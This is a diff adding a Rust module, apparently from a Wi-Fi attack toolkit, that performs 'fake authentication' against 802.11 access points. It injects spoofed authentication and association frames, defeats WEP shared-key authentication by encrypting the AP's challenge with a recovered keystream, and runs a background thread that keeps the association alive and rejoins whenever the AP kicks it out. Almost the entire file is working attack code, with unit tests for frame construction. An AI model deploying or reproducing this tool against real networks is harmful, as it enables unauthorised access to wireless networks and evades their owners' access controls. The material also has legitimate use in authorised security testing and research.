@@ -0,0 +1,544 @@
+//Fake authentication / association with an access point, so that it accepts frames injected from our own MAC address
+
+use std::{
+    sync::{
+        atomic::{AtomicBool, AtomicUsize, Ordering},
+        Arc,
+    },
+    thread::JoinHandle,
+    time::{Duration, Instant},
+};
+
+use anyhow::Context;
+use ieee80211::{Frame, MacAddress};
+use serde::{Deserialize, Serialize};
+
+use crate::{
+    deauth::{FRAME_CONTROL_DEAUTH, FRAME_CONTROL_DISASSOC},
+    ieee80211::IEEE80211PacketSniffer,
+    shared_key_auth::{
+        AuthBody, AuthFrame, AuthFrameBody, AUTH_ALGORITHM_OPEN_SYSTEM, AUTH_ALGORITHM_SHARED_KEY,
+        AUTH_STATUS_SUCCESS, FRAME_CONTROL_AUTHENTICATION, FRAME_FLAG_PROTECTED,
+        MANAGEMENT_HEADER_SIZE,
+    },
+    wep::{WepFrame, WepKeystream},
+};
+
+const FRAME_CONTROL_ASSOC_REQUEST: u8 = 0x00;
+const FRAME_CONTROL_ASSOC_RESPONSE: u8 = 0x10;
+const FRAME_CONTROL_NULL_DATA: u8 = 0x48;
+
+const FRAME_FLAG_TO_DS: u8 = 0x01;
+
+//ESS + Privacy
+const CAPABILITY_INFO: u16 = 0x0011;
+const LISTEN_INTERVAL: u16 = 10;
+
+const ELEMENT_ID_SSID: u8 = 0;
+pub const MAX_SSID_LEN: usize = 32;
+
+const ELEMENT_ID_SUPPORTED_RATES: u8 = 1;
+
+//1, 2, 5.5 and 11 Mbit/s (basic), 6, 9, 12 and 18 Mbit/s
+const SUPPORTED_RATES: [u8; 8] = [0x82, 0x84, 0x8b, 0x96, 0x0c, 0x12, 0x18, 0x24];
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(tag = "type")]
+pub enum FakeAuthAlgorithm {
+    #[serde(rename = "open_system")]
+    OpenSystem,
+    //Shared key authentication requires a keystream long enough to encrypt the challenge response
+    #[serde(rename = "shared_key")]
+    SharedKey(WepKeystream),
+}
+
+pub struct FakeAuth<'a> {
+    sniffer: &'a mut IEEE80211PacketSniffer,
+    ap_mac: MacAddress,
+    dev_mac: MacAddress,
+    ssid: Vec<u8>,
+}
+
+impl<'a> FakeAuth<'a> {
+    //How often requests are injected before giving up on a response
+    const MAX_ROUNDS: usize = 5;
+    const RESPONSE_TIMEOUT: Duration = Duration::from_millis(500);
+
+    pub fn new(
+        sniffer: &'a mut IEEE80211PacketSniffer,
+        ap_mac: MacAddress,
+        dev_mac: MacAddress,
+        ssid: &[u8],
+    ) -> FakeAuth<'a> {
+        FakeAuth {
+            sniffer,
+            ap_mac,
+            dev_mac,
+            ssid: ssid.to_vec(),
+        }
+    }
+
+    //Authenticates and associates with the AP, and returns the association ID
+    pub fn run(&mut self, algorithm: &FakeAuthAlgorithm) -> anyhow::Result<Option<u16>> {
+        if !self.authenticate(algorithm)? {
+            return Ok(None);
+        }
+        self.associate()
+    }
+
+    pub fn authenticate(&mut self, algorithm: &FakeAuthAlgorithm) -> anyhow::Result<bool> {
+        let algorithm_num = match algorithm {
+            FakeAuthAlgorithm::OpenSystem => AUTH_ALGORITHM_OPEN_SYSTEM,
+            FakeAuthAlgorithm::SharedKey(_) => AUTH_ALGORITHM_SHARED_KEY,
+        };
+
+        //Sequence 1: the authentication request
+        let request = AuthBody {
+            algorithm: algorithm_num,
+            seq_num: 1,
+            status: AUTH_STATUS_SUCCESS,
+            challenge: None,
+        };
+        let request = self.auth_frame(0, &request.to_bytes());
+        let Some(response) = self.exchange_auth(&request, 2)? else {
+            return Ok(None);
+        };
+        if response.algorithm != algorithm_num {
+            anyhow::bail!(
+                "access point does not support the requested authentication algorithm (it responded with algorithm {})",
+                response.algorithm
+            );
+        }
+
+        let FakeAuthAlgorithm::SharedKey(keystream) = algorithm else {
+            return Ok(true);
+        };
+
+        //Sequence 3: the challenge, encrypted using our keystream
+        let challenge = response
+            .challenge
+            .context("access point didn't send a shared key authentication challenge")?;
+        let challenge_response = AuthBody {
+            algorithm: AUTH_ALGORITHM_SHARED_KEY,
+            seq_num: 3,
+            status: AUTH_STATUS_SUCCESS,
+            challenge: Some(challenge),
+        };
+        let encrypted =
+            WepFrame::encrypt_with_keystream(keystream, 0, &challenge_response.to_bytes())
+                .context("the keystream is too short to respond to the authentication challenge")?;
+
+        let mut body = encrypted.iv_header().to_vec();
+        body.extend_from_slice(&encrypted.body);
+
+        //Sequence 4: the result
+        let request = self.auth_frame(FRAME_FLAG_PROTECTED, &body);
+        Ok(self.exchange_auth(&request, 4)?.is_some())
+    }
+
+    pub fn associate(&mut self) -> anyhow::Result<Option<u16>> {
+        let request = association_request(&self.ap_mac, &self.dev_mac, &self.ssid)?;
+        for _ in 0..Self::MAX_ROUNDS {
+            self.sniffer
+                .inject_frame(&Frame::new(request.clone()))
+                .context("failed to inject association request")?;
+
+            //Wait for the association response
+            let mut result = None;
+            self.wait_for_response(|frame| {
+                result = parse_association_response(frame);
+                result.is_some()
+            })?;
+            match result {
+                Some(Ok(aid)) => return Ok(Some(aid)),
+                Some(Err(status)) => {
+                    anyhow::bail!("access point rejected the association with status {status}")
+                }
+                None => {}
+            }
+        }
+
+        Ok(None)
+    }
+
+    pub fn keep_alive(&mut self) -> anyhow::Result<()> {
+        let frame = self.management_frame(FRAME_CONTROL_NULL_DATA, FRAME_FLAG_TO_DS, &[]);
+        self.sniffer
+            .inject_frame(&Frame::new(frame))
+            .context("failed to inject keep-alive frame")
+    }
+
+    fn exchange_auth(&mut self, request: &[u8], seq_num: u16) -> anyhow::Result<Option<AuthBody>> {
+        for _ in 0..Self::MAX_ROUNDS {
+            self.sniffer
+                .inject_frame(&Frame::new(request.to_vec()))
+                .context("failed to inject authentication frame")?;
+
+            //Wait for the AP's answer to our request
+            let mut body = None;
+            self.wait_for_response(|frame| {
+                if let Some(AuthFrameBody::Plain(auth)) =
+                    AuthFrame::parse(frame, true).map(|frame| frame.body)
+                {
+                    if auth.seq_num == seq_num {
+                        body = Some(auth);
+                        return true;
+                    }
+                }
+                false
+            })?;
+            let Some(body) = body else {
+                continue;
+            };
+            if body.status != AUTH_STATUS_SUCCESS {
+                anyhow::bail!(
+                    "access point rejected the authentication with status {}",
+                    body.status
+                );
+            }
+            return Ok(Some(body));
+        }
+
+        Ok(None)
+    }
+
+    fn wait_for_response(
+        &mut self,
+        mut is_response: impl FnMut(&[u8]) -> bool,
+    ) -> anyhow::Result<Option<Vec<u8>>> {
+        self.sniffer
+            .set_timeout(Some(Self::RESPONSE_TIMEOUT))
+            .context("failed to set sniffer timeout")?;
+
+        let start_time = Instant::now();
+        while start_time.elapsed() < Self::RESPONSE_TIMEOUT {
+            let Some(packet) = self
+                .sniffer
+                .sniff_packet()
+                .context("failed to sniff fake authentication response")?
+            else {
+                break;
+            };
+            let frame = packet.ieee80211_frame();
+            let bytes = frame.bytes();
+
+            //Check if this is a frame from the AP to us
+            if bytes.len() < MANAGEMENT_HEADER_SIZE
+                || bytes[4..10] != *self.dev_mac.as_bytes()
+                || bytes[10..16] != *self.ap_mac.as_bytes()
+            {
+                continue;
+            }
+
+            if is_response(bytes) {
+                return Ok(Some(bytes.to_vec()));
+            }
+        }
+
+        Ok(None)
+    }
+
+    fn auth_frame(&self, flags: u8, body: &[u8]) -> Vec<u8> {
+        self.management_frame(FRAME_CONTROL_AUTHENTICATION, flags, body)
+    }
+
+    fn management_frame(&self, frame_control: u8, flags: u8, body: &[u8]) -> Vec<u8> {
+        management_frame(&self.ap_mac, &self.dev_mac, frame_control, flags, body)
+    }
+}
+
+fn management_frame(
+    ap_mac: &MacAddress,
+    dev_mac: &MacAddress,
+    frame_control: u8,
+    flags: u8,
+    body: &[u8],
+) -> Vec<u8> {
+    let mut frame = Vec::with_capacity(MANAGEMENT_HEADER_SIZE + body.len());
+    frame.extend_from_slice(&[frame_control, flags]); //Frame control
+    frame.extend_from_slice(&[0, 0]); //Duration
+    frame.extend_from_slice(ap_mac.as_bytes());
+    frame.extend_from_slice(dev_mac.as_bytes());
+    frame.extend_from_slice(ap_mac.as_bytes());
+    frame.extend_from_slice(&[0, 0]); //Sequence control
+    frame.extend_from_slice(body);
+    frame
+}
+
+fn association_request(
+    ap_mac: &MacAddress,
+    dev_mac: &MacAddress,
+    ssid: &[u8],
+) -> anyhow::Result<Vec<u8>> {
+    if ssid.len() > MAX_SSID_LEN {
+        anyhow::bail!("SSIDs can be at most {MAX_SSID_LEN} bytes long");
+    }
+
+    let mut body = Vec::new();
+    body.extend_from_slice(&CAPABILITY_INFO.to_le_bytes());
+    body.extend_from_slice(&LISTEN_INTERVAL.to_le_bytes());
+    body.extend_from_slice(&[ELEMENT_ID_SSID, ssid.len() as u8]);
+    body.extend_from_slice(ssid);
+    body.extend_from_slice(&[ELEMENT_ID_SUPPORTED_RATES, SUPPORTED_RATES.len() as u8]);
+    body.extend_from_slice(&SUPPORTED_RATES);
+
+    Ok(management_frame(
+        ap_mac,
+        dev_mac,
+        FRAME_CONTROL_ASSOC_REQUEST,
+        0,
+        &body,
+    ))
+}
+
+//Returns the association ID, or the status code the AP rejected us with
+fn parse_association_response(frame: &[u8]) -> Option<Result<u16, u16>> {
+    if frame.len() < MANAGEMENT_HEADER_SIZE + 6 || frame[0] != FRAME_CONTROL_ASSOC_RESPONSE {
+        return None;
+    }
+
+    let fixed = &frame[MANAGEMENT_HEADER_SIZE..];
+    let status = u16::from_le_bytes([fixed[2], fixed[3]]);
+    if status != AUTH_STATUS_SUCCESS {
+        return Some(Err(status));
+    }
+
+    //The top two bits of the AID are always set
+    Some(Ok(u16::from_le_bytes([fixed[4], fixed[5]]) & 0x3fff))
+}
+
+fn is_kicked_out(frame: &[u8], ap_mac: &MacAddress, dev_mac: &MacAddress) -> bool {
+    frame.len() >= MANAGEMENT_HEADER_SIZE
+        && matches!(frame[0], FRAME_CONTROL_DEAUTH | FRAME_CONTROL_DISASSOC)
+        && (frame[4..10] == *dev_mac.as_bytes() || frame[4..10] == [0xff; 6])
+        && frame[10..16] == *ap_mac.as_bytes()
+}
+
+//Keeps a fake association alive, and re-associates if the AP kicks us out
+pub struct FakeAuthKeeper {
+    keeper_thread: Option<JoinHandle<()>>,
+    should_exit: Arc<AtomicBool>,
+    stats: Arc<KeeperStats>,
+}
+
+#[derive(Default)]
+struct KeeperStats {
+    num_reassociations: AtomicUsize,
+    num_failures: AtomicUsize,
+}
+
+impl FakeAuthKeeper {
+    const KEEP_ALIVE_INTERVAL: Duration = Duration::from_secs(10);
+    const REASSOCIATION_DELAY: Duration = Duration::from_secs(1);
+    const RETRY_DELAY: Duration = Duration::from_secs(1);
+
+    pub fn new(
+        sniffer: IEEE80211PacketSniffer,
+        ap_mac: MacAddress,
+        dev_mac: MacAddress,
+        ssid: &[u8],
+        algorithm: FakeAuthAlgorithm,
+    ) -> FakeAuthKeeper {
+        let should_exit = Arc::new(AtomicBool::new(false));
+        let stats = Arc::new(KeeperStats::default());
+
+        let keeper_thread = {
+            let ssid = ssid.to_vec();
+            let should_exit = should_exit.clone();
+            let stats = stats.clone();
+            std::thread::Builder::new()
+                .name("fake auth keeper thread".into())
+                .spawn(move || {
+                    Self::keeper_thread_fnc(
+                        sniffer,
+                        ap_mac,
+                        dev_mac,
+                        &ssid,
+                        &algorithm,
+                        should_exit.as_ref(),
+                        stats.as_ref(),
+                    )
+                })
+                .expect("failed to spawn fake auth keeper thread")
+        };
+
+        FakeAuthKeeper {
+            keeper_thread: Some(keeper_thread),
+            should_exit,
+            stats,
+        }
+    }
+
+    pub fn num_reassociations(&self) -> usize {
+        self.stats.num_reassociations.load(Ordering::SeqCst)
+    }
+
+    pub fn num_failures(&self) -> usize {
+        self.stats.num_failures.load(Ordering::SeqCst)
+    }
+
+    fn keeper_thread_fnc(
+        mut sniffer: IEEE80211PacketSniffer,
+        ap_mac: MacAddress,
+        dev_mac: MacAddress,
+        ssid: &[u8],
+        algorithm: &FakeAuthAlgorithm,
+        should_exit: &AtomicBool,
+        stats: &KeeperStats,
+    ) {
+        //Failures are only counted, so that a single failed injection / read doesn't stop the keeper
+        let mut timeout_set = false;
+        let mut next_keep_alive = Instant::now() + Self::KEEP_ALIVE_INTERVAL;
+        while !should_exit.load(Ordering::SeqCst) {
+            if !timeout_set {
+                if sniffer
+                    .set_timeout(Some(Duration::from_millis(250)))
+                    .is_err()
+                {
+                    stats.num_failures.fetch_add(1, Ordering::SeqCst);
+                    std::thread::sleep(Self::RETRY_DELAY);
+                    continue;
+                }
+                timeout_set = true;
+            }
+
+            //Periodically tell the AP we're still there
+            if Instant::now() >= next_keep_alive {
+                if FakeAuth::new(&mut sniffer, ap_mac, dev_mac, ssid)
+                    .keep_alive()
+                    .is_ok()
+                {
+                    next_keep_alive = Instant::now() + Self::KEEP_ALIVE_INTERVAL;
+                } else {
+                    stats.num_failures.fetch_add(1, Ordering::SeqCst);
+                    next_keep_alive = Instant::now() + Self::RETRY_DELAY;
+                }
+            }
+
+            //Check if the AP deauthenticated / disassociated us
+            let packet = match sniffer.sniff_packet() {
+                Ok(Some(packet)) => packet,
+                Ok(None) => continue,
+                Err(_) => {
+                    stats.num_failures.fetch_add(1, Ordering::SeqCst);
+                    std::thread::sleep(Self::RETRY_DELAY);
+                    continue;
+                }
+            };
+            if !is_kicked_out(packet.ieee80211_frame().bytes(), &ap_mac, &dev_mac) {
+                continue;
+            }
+
+            //Keep trying to get back in until we succeed
+            while !should_exit.load(Ordering::SeqCst) {
+                let res = FakeAuth::new(&mut sniffer, ap_mac, dev_mac, ssid).run(algorithm);
+                if matches!(res, Ok(Some(_))) {
+                    stats.num_reassociations.fetch_add(1, Ordering::SeqCst);
+                    break;
+                }
+
+                std::thread::sleep(Self::REASSOCIATION_DELAY);
+            }
+
+            //Authentication changes the sniffer timeout
+            timeout_set = false;
+        }
+    }
+}
+
+impl Drop for FakeAuthKeeper {
+    fn drop(&mut self) {
+        self.should_exit.store(true, Ordering::SeqCst);
+
+        if let Some(Err(e)) = self.keeper_thread.take().map(JoinHandle::join) {
+            std::panic::resume_unwind(e);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_fake_auth_frames() {
+        let ap = MacAddress::new([0x02, 0, 0, 0, 0, 1]);
+        let dev = MacAddress::new([0x02, 0, 0, 0, 0, 2]);
+
+        //The association request has to carry the SSID and our supported rates
+        let request = association_request(&ap, &dev, b"network").unwrap();
+        assert_eq!(request[..2], [FRAME_CONTROL_ASSOC_REQUEST, 0]);
+        assert_eq!(request[4..10], *ap.as_bytes());
+        assert_eq!(request[10..16], *dev.as_bytes());
+        assert_eq!(request[16..22], *ap.as_bytes());
+
+        let body = &request[MANAGEMENT_HEADER_SIZE..];
+        assert_eq!(body[..2], CAPABILITY_INFO.to_le_bytes());
+        assert_eq!(body[2..4], LISTEN_INTERVAL.to_le_bytes());
+        assert_eq!(body[4..6], [ELEMENT_ID_SSID, 7]);
+        assert_eq!(body[6..13], *b"network");
+        assert_eq!(body[13..15], [ELEMENT_ID_SUPPORTED_RATES, 8]);
+        assert_eq!(body[15..], SUPPORTED_RATES);
+
+        assert!(association_request(&ap, &dev, &[b'a'; MAX_SSID_LEN]).is_ok());
+        assert!(association_request(&ap, &dev, &[b'a'; MAX_SSID_LEN + 1]).is_err());
+
+        //The AP answers with the status code and association ID
+        let response = |status: u16, aid: u16| {
+            let mut body = CAPABILITY_INFO.to_le_bytes().to_vec();
+            body.extend_from_slice(&status.to_le_bytes());
+            body.extend_from_slice(&aid.to_le_bytes());
+            management_frame(&dev, &ap, FRAME_CONTROL_ASSOC_RESPONSE, 0, &body)
+        };
+        assert_eq!(
+            parse_association_response(&response(AUTH_STATUS_SUCCESS, 0xc005)),
+            Some(Ok(5))
+        );
+        assert_eq!(parse_association_response(&response(17, 0)), Some(Err(17)));
+        assert_eq!(parse_association_response(&response(0, 1)[..25]), None);
+        assert_eq!(parse_association_response(&request), None);
+
+        //The keeper has to notice when the AP kicks us (or everyone) out, but not when it kicks out someone else
+        let other = MacAddress::new([0x02, 0, 0, 0, 0, 3]);
+        let kick = |frame_control: u8, receiver: &MacAddress| {
+            management_frame(receiver, &ap, frame_control, 0, &[1, 0])
+        };
+        assert!(is_kicked_out(&kick(FRAME_CONTROL_DEAUTH, &dev), &ap, &dev));
+        assert!(is_kicked_out(
+            &kick(FRAME_CONTROL_DISASSOC, &dev),
+            &ap,
+            &dev
+        ));
+        assert!(is_kicked_out(
+            &kick(FRAME_CONTROL_DEAUTH, &MacAddress::new([0xff; 6])),
+            &ap,
+            &dev
+        ));
+        assert!(!is_kicked_out(
+            &kick(FRAME_CONTROL_DEAUTH, &other),
+            &ap,
+            &dev
+        ));
+        assert!(!is_kicked_out(
+            &management_frame(
+                &MacAddress::new([0xff; 6]),
+                &other,
+                FRAME_CONTROL_DEAUTH,
+                0,
+                &[1, 0]
+            ),
+            &ap,
+            &dev
+        ));
+        assert!(!is_kicked_out(
+            &kick(FRAME_CONTROL_ASSOC_RESPONSE, &dev),
+            &ap,
+            &dev
+        ));
+        assert!(!is_kicked_out(
+            &kick(FRAME_CONTROL_DEAUTH, &dev)[..20],
+            &ap,
+            &dev
+        ));
+    }
+}